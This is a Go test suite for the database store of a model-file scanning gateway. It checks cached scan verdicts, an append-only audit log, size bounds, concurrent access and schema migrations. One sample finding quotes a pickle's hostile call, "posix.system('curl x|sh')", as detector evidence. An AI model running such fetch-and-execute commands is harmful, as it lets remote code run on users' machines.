package store

import (
	"context"
	"crypto/rand"
	"database/sql"
	"encoding/hex"
	"errors"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelgate/modelgate/internal/finding"
)

// opener opens a fresh, empty store for one test, and returns the DSN that
// opens the same database again ("" when the database ends with Close).
type opener func(t *testing.T) (s Store, dsn string)

func TestSQLite(t *testing.T) {
	testStore(t, func(t *testing.T) (Store, string) {
		path := filepath.Join(t.TempDir(), "sub", "dir", "gate.db")
		return mustOpen(t, path), path
	})
}

func TestSQLiteMemory(t *testing.T) {
	testStore(t, func(t *testing.T) (Store, string) {
		return mustOpen(t, ":memory:"), ""
	})
}

// TestPostgres runs the suite against the server named by
// MODELGATE_TEST_POSTGRES (see .ci/postgres.sh), each test in a schema of
// its own.
func TestPostgres(t *testing.T) {
	dsn := os.Getenv("MODELGATE_TEST_POSTGRES")
	if dsn == "" {
		t.Skip("MODELGATE_TEST_POSTGRES is not set; start a server with .ci/postgres.sh to run the PostgreSQL suite")
	}
	admin, err := sql.Open("pgx", dsn)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { admin.Close() })
	newDB := func(t *testing.T) string {
		schema := "modelgate_test_" + randHex(6)
		if _, err := admin.Exec(`CREATE SCHEMA ` + schema); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			if _, err := admin.Exec(`DROP SCHEMA ` + schema + ` CASCADE`); err != nil {
				t.Errorf("dropping %s: %v", schema, err)
			}
		})
		u, err := url.Parse(dsn)
		if err != nil {
			t.Fatal(err)
		}
		q := u.Query()
		q.Set("search_path", schema)
		u.RawQuery = q.Encode()
		return u.String()
	}
	testStore(t, func(t *testing.T) (Store, string) {
		dsn := newDB(t)
		return mustOpen(t, dsn), dsn
	})
	t.Run("ConcurrentMigrate", func(t *testing.T) {
		// Gate replicas starting together: the advisory lock serialises
		// their migrations.
		dsn := newDB(t)
		var wg sync.WaitGroup
		errs := make([]error, 4)
		for i := range errs {
			wg.Add(1)
			go func() {
				defer wg.Done()
				s, err := Open(ctx, dsn)
				if err == nil {
					_, err = s.Append(ctx, sampleDecision(i))
					s.Close()
				}
				errs[i] = err
			}()
		}
		wg.Wait()
		for i, err := range errs {
			if err != nil {
				t.Errorf("replica %d: %v", i, err)
			}
		}
	})
}

func mustOpen(t testing.TB, dsn string) Store {
	t.Helper()
	s, err := Open(context.Background(), dsn)
	if err != nil {
		t.Fatalf("Open(%q): %v", dsn, err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

func randHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}

// testStore is the suite every backend must pass.
func testStore(t *testing.T, open opener) {
	tests := []struct {
		name string
		fn   func(t *testing.T, open opener)
	}{
		{"VerdictRoundTrip", testVerdictRoundTrip},
		{"VerdictUpsert", testVerdictUpsert},
		{"VerdictInvalid", testVerdictInvalid},
		{"AppendAndQuery", testAppendAndQuery},
		{"QueryLimits", testQueryLimits},
		{"AppendOnly", testAppendOnly},
		{"Stats", testStats},
		{"Bounds", testBounds},
		{"Concurrent", testConcurrent},
		{"Reopen", testReopen},
		{"SchemaTooNew", testSchemaTooNew},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { tt.fn(t, open) })
	}
}

var ctx = context.Background()

func sampleFindings() []finding.Finding {
	return []finding.Finding{
		{RuleID: "PICKLE-DANGEROUS-CALL", Severity: finding.Critical, Message: "calls os.system",
			Member: "archive/data.pkl", Offset: 57, Evidence: "posix.system('curl x|sh')"},
		{RuleID: "PICKLE-UNKNOWN-IMPORT", Severity: finding.Medium, Message: "imports __main__.Net",
			Offset: finding.NoOffset, Suppression: &finding.Suppression{Reason: "ours", Owner: "ml-team", Expires: "2030-01-01"}},
	}
}

func sampleVerdict() Verdict {
	return Verdict{
		Repo: "models/org/name", Commit: strings.Repeat("a", 40), Path: "pytorch_model.bin",
		ETag: `"abc"`, PolicyHash: "sha256:policy",
		SHA256: strings.Repeat("b", 64), Size: 1 << 30, Verdict: VerdictBlocked, Severity: "critical",
		Findings: sampleFindings(), Errors: []string{"member x: truncated"},
		ScannedAt: time.Date(2026, 5, 1, 12, 0, 0, 123456000, time.UTC), Duration: 1500 * time.Millisecond,
	}
}

func diff(t *testing.T, what string, want, got any) {
	t.Helper()
	if !reflect.DeepEqual(want, got) {
		t.Errorf("%s:\nwant %+v\ngot  %+v", what, want, got)
	}
}

func testVerdictRoundTrip(t *testing.T, open opener) {
	s, _ := open(t)
	want := sampleVerdict()
	if _, ok, err := s.Verdict(ctx, want.Repo, want.Commit, want.Path, want.ETag, want.PolicyHash); ok || err != nil {
		t.Fatalf("Verdict before Put = %v, %v; want not found", ok, err)
	}
	if err := s.PutVerdict(ctx, want); err != nil {
		t.Fatal(err)
	}
	got, ok, err := s.Verdict(ctx, want.Repo, want.Commit, want.Path, want.ETag, want.PolicyHash)
	if !ok || err != nil {
		t.Fatalf("Verdict = %v, %v", ok, err)
	}
	diff(t, "verdict", want, got)

	// Every key field matters.
	for i, key := range [][5]string{
		{want.Repo + "x", want.Commit, want.Path, want.ETag, want.PolicyHash},
		{want.Repo, want.Commit + "x", want.Path, want.ETag, want.PolicyHash},
		{want.Repo, want.Commit, want.Path + "x", want.ETag, want.PolicyHash},
		{want.Repo, want.Commit, want.Path, want.ETag + "x", want.PolicyHash},
		{want.Repo, want.Commit, want.Path, want.ETag, want.PolicyHash + "x"},
		{want.Repo + want.Commit, "", want.Path, want.ETag, want.PolicyHash}, // no ambiguity from concatenation
	} {
		if _, ok, err := s.Verdict(ctx, key[0], key[1], key[2], key[3], key[4]); ok || err != nil {
			t.Errorf("key %d: Verdict = %v, %v; want not found", i, ok, err)
		}
	}
}

func testVerdictUpsert(t *testing.T, open opener) {
	s, _ := open(t)
	v := sampleVerdict()
	if err := s.PutVerdict(ctx, v); err != nil {
		t.Fatal(err)
	}
	v2 := v
	v2.Verdict, v2.Severity, v2.Findings, v2.Errors = VerdictClean, "", nil, nil
	v2.ScannedAt = v.ScannedAt.Add(time.Hour)
	if err := s.PutVerdict(ctx, v2); err != nil {
		t.Fatal(err)
	}
	other := v
	other.PolicyHash = "sha256:other"
	if err := s.PutVerdict(ctx, other); err != nil {
		t.Fatal(err)
	}
	got, _, err := s.Verdict(ctx, v.Repo, v.Commit, v.Path, v.ETag, v.PolicyHash)
	if err != nil {
		t.Fatal(err)
	}
	diff(t, "replaced verdict", v2, got)
	got, _, err = s.Verdict(ctx, v.Repo, v.Commit, v.Path, v.ETag, other.PolicyHash)
	if err != nil {
		t.Fatal(err)
	}
	diff(t, "verdict under another policy", other, got)
	st, err := s.Stats(ctx)
	if err != nil {
		t.Fatal(err)
	}
	diff(t, "verdict counts", map[string]int64{VerdictClean: 1, VerdictBlocked: 1}, st.Verdicts)
}

func testVerdictInvalid(t *testing.T, open opener) {
	s, _ := open(t)
	for name, mod := range map[string]func(*Verdict){
		"no verdict":      func(v *Verdict) { v.Verdict = "" },
		"unknown verdict": func(v *Verdict) { v.Verdict = "served" },
		"invalid utf-8":   func(v *Verdict) { v.Path = "a\xffb" },
		"nul":             func(v *Verdict) { v.Path = "a\x00b" },
		"long path":       func(v *Verdict) { v.Path = strings.Repeat("p", MaxText+1) },
		"long repo":       func(v *Verdict) { v.Repo = strings.Repeat("r", MaxIdent+1) },
	} {
		v := sampleVerdict()
		mod(&v)
		if err := s.PutVerdict(ctx, v); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: PutVerdict = %v, want ErrInvalid", name, err)
		}
		if _, ok, err := s.Verdict(ctx, v.Repo, v.Commit, v.Path, v.ETag, v.PolicyHash); ok || err != nil {
			t.Errorf("%s: Verdict = %v, %v; want not found", name, ok, err)
		}
	}
	// Empty ETag and policy hash are ordinary keys.
	v := sampleVerdict()
	v.ETag, v.PolicyHash = "", ""
	if err := s.PutVerdict(ctx, v); err != nil {
		t.Errorf("empty etag and policy: %v", err)
	}
}

func sampleDecision(i int) Decision {
	verdicts := []string{"served", "blocked", "pending"}
	return Decision{
		Time:   time.Date(2026, 5, 1, 12, 0, i, 1000, time.UTC),
		Client: "10.0.0.1", Method: "GET",
		Repo: fmt.Sprintf("models/org%d/name", i%2), Revision: "main", Commit: strings.Repeat("c", 40),
		Path: "model.safetensors", Verdict: verdicts[i%3], Reason: fmt.Sprintf("reason %d", i),
		PolicyHash: "sha256:p", SHA256: strings.Repeat("d", 64), Bytes: int64(i) * 1000,
	}
}

func testAppendAndQuery(t *testing.T, open opener) {
	s, _ := open(t)
	var want []Decision
	for i := range 10 {
		d := sampleDecision(i)
		if i == 4 {
			d.Findings = sampleFindings()
		}
		id, err := s.Append(ctx, d)
		if err != nil {
			t.Fatal(err)
		}
		if len(want) > 0 && id <= want[len(want)-1].ID {
			t.Fatalf("id %d after %d: ids must increase", id, want[len(want)-1].ID)
		}
		d.ID = id
		want = append(want, d)
	}
	newest := func(ds []Decision, keep func(Decision) bool) []Decision {
		var out []Decision
		for i := len(ds) - 1; i >= 0; i-- {
			if keep(ds[i]) {
				out = append(out, ds[i])
			}
		}
		return out
	}
	all := func(Decision) bool { return true }
	for _, tt := range []struct {
		name string
		q    Query
		want []Decision
	}{
		{"all", Query{}, newest(want, all)},
		{"repo", Query{Repo: "models/org1/name"}, newest(want, func(d Decision) bool { return d.Repo == "models/org1/name" })},
		{"repo exact", Query{Repo: "org1"}, nil},
		{"contains", Query{RepoContains: "org1/"}, newest(want, func(d Decision) bool { return d.Repo == "models/org1/name" })},
		{"contains case-sensitive", Query{RepoContains: "ORG1"}, nil},
		{"verdict", Query{Verdict: "blocked"}, newest(want, func(d Decision) bool { return d.Verdict == "blocked" })},
		{"limit", Query{Limit: 3}, newest(want, all)[:3]},
		{"page", Query{Limit: 3, BeforeID: want[7].ID}, newest(want[:7], all)[:3]},
		{"combined", Query{Repo: "models/org0/name", Verdict: "served", BeforeID: want[9].ID},
			newest(want[:9], func(d Decision) bool { return d.Repo == "models/org0/name" && d.Verdict == "served" })},
	} {
		got, err := s.Decisions(ctx, tt.q)
		if err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		diff(t, tt.name, tt.want, got)
	}

	// A zero time means now.
	before := time.Now().Add(-time.Second)
	id, err := s.Append(ctx, Decision{Verdict: "served"})
	if err != nil {
		t.Fatal(err)
	}
	got, err := s.Decisions(ctx, Query{Limit: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].ID != id || got[0].Time.Before(before) || got[0].Time.After(time.Now().Add(time.Second)) {
		t.Errorf("decision with zero time stored as %+v", got)
	}
	if _, err := s.Append(ctx, Decision{}); !errors.Is(err, ErrInvalid) {
		t.Errorf("Append without verdict = %v, want ErrInvalid", err)
	}
}

func testQueryLimits(t *testing.T, open opener) {
	s, _ := open(t)
	for i := range MaxLimit + 5 {
		if _, err := s.Append(ctx, Decision{Verdict: "served", Bytes: int64(i)}); err != nil {
			t.Fatal(err)
		}
	}
	for _, tt := range []struct{ limit, want int }{{0, DefaultLimit}, {-1, DefaultLimit}, {MaxLimit * 10, MaxLimit}} {
		got, err := s.Decisions(ctx, Query{Limit: tt.limit})
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != tt.want {
			t.Errorf("Limit %d: got %d records, want %d", tt.limit, len(got), tt.want)
		}
	}
}

func testAppendOnly(t *testing.T, open opener) {
	s, _ := open(t)
	id, err := s.Append(ctx, sampleDecision(1))
	if err != nil {
		t.Fatal(err)
	}
	db := s.(*sqlStore).w
	stmts := []string{
		fmt.Sprintf(`UPDATE decisions SET verdict = 'served' WHERE id = %d`, id),
		fmt.Sprintf(`DELETE FROM decisions WHERE id = %d`, id),
		`DELETE FROM decisions`,
	}
	if s.(*sqlStore).postgres {
		stmts = append(stmts, `TRUNCATE decisions`)
	}
	for _, q := range stmts {
		_, err := db.ExecContext(ctx, q)
		if err == nil || !strings.Contains(err.Error(), "append-only") {
			t.Errorf("%s: err = %v, want the append-only refusal", q, err)
		}
	}
	got, err := s.Decisions(ctx, Query{})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].Verdict != sampleDecision(1).Verdict {
		t.Errorf("after refused changes the log holds %+v", got)
	}
	// The remembered verdicts are a cache, not the log: they may change.
	if _, err := db.ExecContext(ctx, `DELETE FROM verdicts`); err != nil {
		t.Errorf("deleting verdicts: %v", err)
	}
}

func testStats(t *testing.T, open opener) {
	s, _ := open(t)
	st, err := s.Stats(ctx)
	if err != nil {
		t.Fatal(err)
	}
	diff(t, "empty stats", Stats{Decisions: map[string]int64{}, Verdicts: map[string]int64{}}, st)
	for i := range 7 {
		if _, err := s.Append(ctx, sampleDecision(i)); err != nil {
			t.Fatal(err)
		}
	}
	v := sampleVerdict()
	if err := s.PutVerdict(ctx, v); err != nil {
		t.Fatal(err)
	}
	v.Path, v.Verdict = "other.bin", VerdictError
	if err := s.PutVerdict(ctx, v); err != nil {
		t.Fatal(err)
	}
	st, err = s.Stats(ctx)
	if err != nil {
		t.Fatal(err)
	}
	diff(t, "stats", Stats{
		Decisions: map[string]int64{"served": 3, "blocked": 2, "pending": 2},
		Verdicts:  map[string]int64{VerdictBlocked: 1, VerdictError: 1},
	}, st)
}

func testBounds(t *testing.T, open opener) {
	s, _ := open(t)
	// Many large findings: the stored JSON stays bounded and keeps the worst.
	var fs []finding.Finding
	for i := range 2000 {
		sev := finding.Low
		if i == 1999 {
			sev = finding.Critical
		}
		fs = append(fs, finding.Finding{RuleID: "R", Severity: sev, Offset: int64(i),
			Message: strings.Repeat("m", 300), Evidence: strings.Repeat("e", 10000)})
	}
	v := sampleVerdict()
	v.Findings = fs
	v.Errors = make([]string, 500)
	for i := range v.Errors {
		v.Errors[i] = strings.Repeat("x", MaxText*2)
	}
	if err := s.PutVerdict(ctx, v); err != nil {
		t.Fatal(err)
	}
	got, _, err := s.Verdict(ctx, v.Repo, v.Commit, v.Path, v.ETag, v.PolicyHash)
	if err != nil {
		t.Fatal(err)
	}
	if got.FindingsOmitted == 0 || got.FindingsOmitted+len(got.Findings) != len(fs) {
		t.Errorf("kept %d findings, omitted %d, of %d", len(got.Findings), got.FindingsOmitted, len(fs))
	}
	if len(got.Findings) == 0 || got.Findings[0].Severity != finding.Critical {
		t.Errorf("the critical finding was not kept first")
	}
	if n := len(got.Findings[0].Evidence); n > MaxFindingText {
		t.Errorf("evidence stored with %d bytes, cap %d", n, MaxFindingText)
	}
	if len(got.Errors) != MaxErrors || len(got.Errors[0]) > MaxText {
		t.Errorf("errors stored: %d, first %d bytes", len(got.Errors), len(got.Errors[0]))
	}

	// Audit strings: stored as given when storable, made storable otherwise.
	d := Decision{
		Verdict: "blocked", Client: "10.0.0.1:5000", Method: "GET",
		Repo: "models/ü/ñ", Path: "dir/\x00nul\xffbad.bin", Reason: strings.Repeat("r", MaxText+100),
		Findings: []finding.Finding{{RuleID: "R", Severity: finding.High, Offset: finding.NoOffset, Evidence: "a\x00b\xfe"}},
	}
	id, err := s.Append(ctx, d)
	if err != nil {
		t.Fatal(err)
	}
	ds, err := s.Decisions(ctx, Query{Limit: 1})
	if err != nil || len(ds) != 1 || ds[0].ID != id {
		t.Fatalf("Decisions = %v, %v", ds, err)
	}
	got2 := ds[0]
	if got2.Repo != d.Repo || got2.Client != d.Client {
		t.Errorf("valid strings changed: %q %q", got2.Repo, got2.Client)
	}
	if want := "dir/\uFFFDnul\uFFFDbad.bin"; got2.Path != want {
		t.Errorf("path stored as %q, want %q", got2.Path, want)
	}
	if len(got2.Reason) > MaxText || !strings.HasSuffix(got2.Reason, "…") {
		t.Errorf("reason of %d bytes stored as %d bytes", len(d.Reason), len(got2.Reason))
	}
	if want := "a\uFFFDb\uFFFD"; len(got2.Findings) != 1 || got2.Findings[0].Evidence != want {
		t.Errorf("findings stored as %+v, want evidence %q", got2.Findings, want)
	}
}

func testConcurrent(t *testing.T, open opener) {
	s, _ := open(t)
	const workers, each = 16, 40
	var (
		wg   sync.WaitGroup
		mu   sync.Mutex
		ids  = map[int64]bool{}
		errc = make(chan error, workers*3)
	)
	for w := range workers {
		wg.Add(3)
		go func() { // appender
			defer wg.Done()
			for i := range each {
				id, err := s.Append(ctx, sampleDecision(w*each+i))
				if err != nil {
					errc <- err
					return
				}
				mu.Lock()
				ids[id] = true
				mu.Unlock()
			}
		}()
		go func() { // reader
			defer wg.Done()
			for range each / 4 {
				if _, err := s.Decisions(ctx, Query{Limit: 50}); err != nil {
					errc <- err
					return
				}
				if _, err := s.Stats(ctx); err != nil {
					errc <- err
					return
				}
			}
		}()
		go func() { // scanner remembering verdicts
			defer wg.Done()
			for i := range each / 4 {
				v := sampleVerdict()
				v.Path = fmt.Sprintf("f%d", i) // workers race on the same keys: upserts
				v.Size = int64(w)
				if err := s.PutVerdict(ctx, v); err != nil {
					errc <- err
					return
				}
				if _, _, err := s.Verdict(ctx, v.Repo, v.Commit, v.Path, v.ETag, v.PolicyHash); err != nil {
					errc <- err
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errc)
	for err := range errc {
		t.Error(err)
	}
	if len(ids) != workers*each {
		t.Errorf("%d distinct ids for %d appends", len(ids), workers*each)
	}
	st, err := s.Stats(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var n, nv int64
	for _, c := range st.Decisions {
		n += c
	}
	for _, c := range st.Verdicts {
		nv += c
	}
	if n != workers*each || nv != each/4 {
		t.Errorf("stats after the load: %d decisions, %d verdicts; want %d, %d", n, nv, workers*each, each/4)
	}
}

func testReopen(t *testing.T, open opener) {
	s, dsn := open(t)
	if dsn == "" {
		t.Skip("this backend does not outlive Close")
	}
	v := sampleVerdict()
	if err := s.PutVerdict(ctx, v); err != nil {
		t.Fatal(err)
	}
	d := sampleDecision(3)
	id, err := s.Append(ctx, d)
	if err != nil {
		t.Fatal(err)
	}
	d.ID = id
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	for range 2 { // migrations are idempotent
		s2 := mustOpen(t, dsn)
		got, ok, err := s2.Verdict(ctx, v.Repo, v.Commit, v.Path, v.ETag, v.PolicyHash)
		if !ok || err != nil {
			t.Fatalf("verdict after reopen: %v, %v", ok, err)
		}
		diff(t, "verdict after reopen", v, got)
		ds, err := s2.Decisions(ctx, Query{})
		if err != nil {
			t.Fatal(err)
		}
		diff(t, "log after reopen", []Decision{d}, ds)
		if err := s2.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

func testSchemaTooNew(t *testing.T, open opener) {
	s, dsn := open(t)
	if dsn == "" {
		t.Skip("this backend does not outlive Close")
	}
	if _, err := s.(*sqlStore).w.ExecContext(ctx, `INSERT INTO schema_migrations (version) VALUES ($1)`, SchemaVersion+1); err != nil {
		t.Fatal(err)
	}
	s.Close()
	if st, err := Open(ctx, dsn); !errors.Is(err, ErrSchemaTooNew) {
		if st != nil {
			st.Close()
		}
		t.Errorf("Open of a newer schema = %v, want ErrSchemaTooNew", err)
	}
}
